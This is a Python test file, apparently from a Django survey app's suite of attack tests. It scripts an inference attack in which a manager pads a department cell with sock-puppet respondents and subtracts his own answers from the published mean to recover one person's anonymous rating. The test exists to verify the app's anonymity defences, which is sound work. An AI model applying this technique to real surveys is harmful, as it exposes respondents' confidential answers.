"""ATTACK: a manager assigns the department of every personal link, so he can build a
"verified" department cell of one real person plus k-1 sock puppets he answers himself,
and subtract his own answers from the published cell mean.

Each test is an attack that passes only if it works; see tests/attacks/conftest.py."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from surveys.models import Question, Survey, Wave
from tests.factories import add_question, add_response, make_departments, make_survey, make_user

pytestmark = pytest.mark.django_db
LINK = re.compile(r"http://[^/\s]+(/s/i/[^/\s]+/)")
SECRET = 2  # the target's answer, which the manager should never learn


def test_manager_pads_a_personal_link_department_and_recovers_one_answer(client):
    survey = make_survey(anonymity=Survey.ANONYMOUS)
    rating = add_question(survey, Question.RATING_5, dimension="Service")
    sales, _legal = make_departments("Sales", "Legal")
    now = timezone.now()
    wave = Wave.objects.create(
        survey=survey, label="Q4", opens=now - timedelta(days=1), closes=now + timedelta(days=7)
    )
    for n in range(8):  # the rest of the organisation, answering normally
        add_response(wave, {rating: 3 + n % 3}, department=sales)
    manager = make_user("boss", "Managers")
    survey.owners.add(manager)
    client.force_login(manager)
    k = survey.group_threshold()
    puppets = [f"me{i}@attacker.example" for i in range(k - 1)]
    listing = "email,department\n" + "\n".join(f"{a},Legal" for a in ["target@example.org", *puppets])
    page = client.post(
        reverse("surveys:wave_invitations_new", args=[survey.slug, wave.pk]),
        {"addresses": listing, "subject": "S", "body": "Hi {link}", "when": "now", "action": "send"},
    )
    assert page.status_code == 302
    links = {m.to[0]: LINK.search(m.body).group(1) for m in mail.outbox}
    client.logout()
    client.post(links["target@example.org"], {f"q{rating.pk}": str(SECRET)})  # the victim answers
    for address in puppets:  # the manager answers his own links with 5
        assert client.post(links[address], {f"q{rating.pk}": "5"}).status_code == 302
    # The wave ends; the manager (any viewer) reads the export.
    Wave.objects.filter(pk=wave.pk).update(closes=timezone.now() - timedelta(minutes=1))
    client.force_login(manager)
    text = client.get(reverse("reports:export_csv") + "?survey=" + survey.slug).getvalue().decode()
    rows = list(csv.reader(io.StringIO(text)))
    legal_rows = [r for r in rows if r[0] == "Legal" and r[1] == "dimension:Service"]
    assert legal_rows, "Legal cell hidden"
    header = next(r for r in rows if "mean" in [c.lower() for c in r])
    row = legal_rows[0]
    assert row[[c.lower() for c in header].index("respondents")], "the Legal cell is hidden"
    n = int(row[[c.lower() for c in header].index("respondents")])
    mean = float(row[[c.lower() for c in header].index("mean")])
    assert n == k
    recovered = round(n * mean - 5 * (k - 1))
    assert recovered == SECRET
